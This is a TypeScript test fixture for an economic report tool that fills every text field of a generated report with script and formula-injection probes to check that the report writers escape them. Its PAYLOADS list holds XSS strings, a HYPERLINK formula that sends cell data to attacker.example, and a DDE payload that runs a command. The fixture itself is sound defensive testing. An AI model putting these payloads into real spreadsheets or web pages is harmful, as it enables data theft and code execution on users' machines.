/**
 * A report built from a seeded random balanced table (test/engine/analyses/tables.ts), with a
 * corpus of script and formula payloads as sector codes and labels and in every other text a
 * report carries (scenario name, description and note, final-demand and value-added labels,
 * satellite label and unit, table title, source and notes, input file names, settings). A
 * negative scenario makes negative numbers; a sector with no jobs makes Type I and Type II of the
 * jobs measure undefined (blank). The numbers are not economics: they test the writers.
 */
import { extractEach } from '../../engine/extraction';
import { buildModels } from '../../engine/household';
import { impacts } from '../../engine/impact';
import { linkages } from '../../engine/linkages';
import { measures } from '../../engine/measures';
import { multipliers } from '../../engine/multipliers';
import { priceModel } from '../../engine/price';
import { resolveScenario } from '../../engine/scenario';
import { checks } from '../../engine/checks';
import { makeTable, toPlain } from '../../engine/table';
import type { Table } from '../../engine/table';
import { tornado } from '../../engine/tornado';
import type { Report } from '../../src/report/model';
import {
  buildReport,
  checksSection,
  comparisonSection,
  extractionRankingSection,
  linkagesSection,
  matrixSection,
  modelAssumptions,
  multipliersSection,
  priceSection,
  scenarioSection,
  setting,
  tornadoSection,
} from '../../src/report/model';
import { sha256Hex } from '../../src/report/sha256';
import { randomTable } from '../engine/analyses/tables';

/** Script and formula payloads (common practice: the usual XSS and CSV-injection probes). */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</style><script>alert(2)</script>',
  '=HYPERLINK("http://attacker.example/?q="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB=1+1',
  '\rCR=1+1',
  'javascript:alert(3)',
  '&amp; &lt;b&gt; &#x3C;',
] as const;

export const RISKY = /^[=+\-@\t\r]/;

export function hostileTable(): Table {
  const p = toPlain(randomTable({ n: PAYLOADS.length, seed: 61 }));
  p.sectors.codes = PAYLOADS.map((s, i) => `${s}#${i}`);
  p.sectors.labels = PAYLOADS.map((s) => `${s} sector`);
  p.finalDemand!.labels = ['Household consumption <i>x</i>', '=GOV()', '@exports'];
  p.valueAdded!.labels = ['Compensation of employees <b>', '-GOS', '+TAX'];
  p.satellites![0]!.label = 'Employment <script>x</script>';
  p.satellites![0]!.unit = '=FTE jobs';
  p.satellites![0]!.values[0] = 0; // no jobs in the first sector: Type I and II of jobs undefined there
  p.meta = { ...p.meta, title: '<script>alert("title")</script>', source: '=SOURCE()', notes: ['@note', '<b>bold</b>'] };
  return makeTable(p);
}

export function hostileReport(o: { invented?: boolean; locale?: string } = {}): Report {
  const t = hostileTable();
  if (o.invented) t.meta.invented = true;
  const models = buildModels(t, { household: { income: 'COE', consumption: 'HH' } });
  const list = measures(t, { jobs: 'JOBS' });
  const scen = [
    { name: '<script>alert("scenario")</script>', description: '=DESCRIPTION() <img src=x>', changes: [{ sector: t.sectors.codes[2]!, amount: 12.5, note: '@note' }] },
    { name: '-closure', changes: [{ sector: t.sectors.codes[3]!, amount: -40, localShare: 0.75 }, { sector: t.sectors.codes[5]!, percent: -10 }] },
  ];
  const resolved = scen.map((s) => resolveScenario(t, s));
  const results = impacts(models, resolved, list);
  const found = checks(t);
  return buildReport({
    title: '<script>alert("report")</script> =TITLE()',
    subtitle: '+subtitle',
    table: t,
    tool: { name: 'ripplewise', version: '0.1.0-test' },
    createdAt: '2026-03-04T05:06:07.000Z',
    locale: o.locale ?? 'en',
    inputs: [
      { role: 'table', name: '=evil.csv', sha256: sha256Hex('table bytes'), bytes: 11 },
      { role: 'scenarios', name: '<b>s.json</b>', sha256: sha256Hex('scenario bytes'), bytes: 14 },
    ],
    settings: [setting('householdColumn', 'Household consumption column', 'HH', 'guessed'), setting('note', '@setting', '=1+1', 'given', '<i>note</i>')],
    assumptions: modelAssumptions(t, models.closure),
    findings: found,
    sections: [
      comparisonSection(results),
      ...resolved.map((r, k) => scenarioSection(r, results[k]!, { index: k + 1 })),
      multipliersSection(multipliers(models, list)),
      linkagesSection(linkages(t, models.open)),
      tornadoSection({ data: tornado(models.open, { kind: 'multiplier', sector: 4 }, { top: 6, percent: 20 }), sectors: t.sectors, target: 'Output multiplier of <b>x</b>', unit: '=units' }),
      priceSection(priceModel(t, models.open, { valueAdded: [{ row: 'COE', percent: 5 }] }), { shock: '<script>' }),
      extractionRankingSection(extractEach(t, models.open)),
      matrixSection({ id: 'A', title: 'Technical coefficients', about: 'A', rows: t.sectors, cols: t.sectors, matrix: models.open.A, unit: 'per unit of output' }),
      checksSection(found),
    ],
  });
}
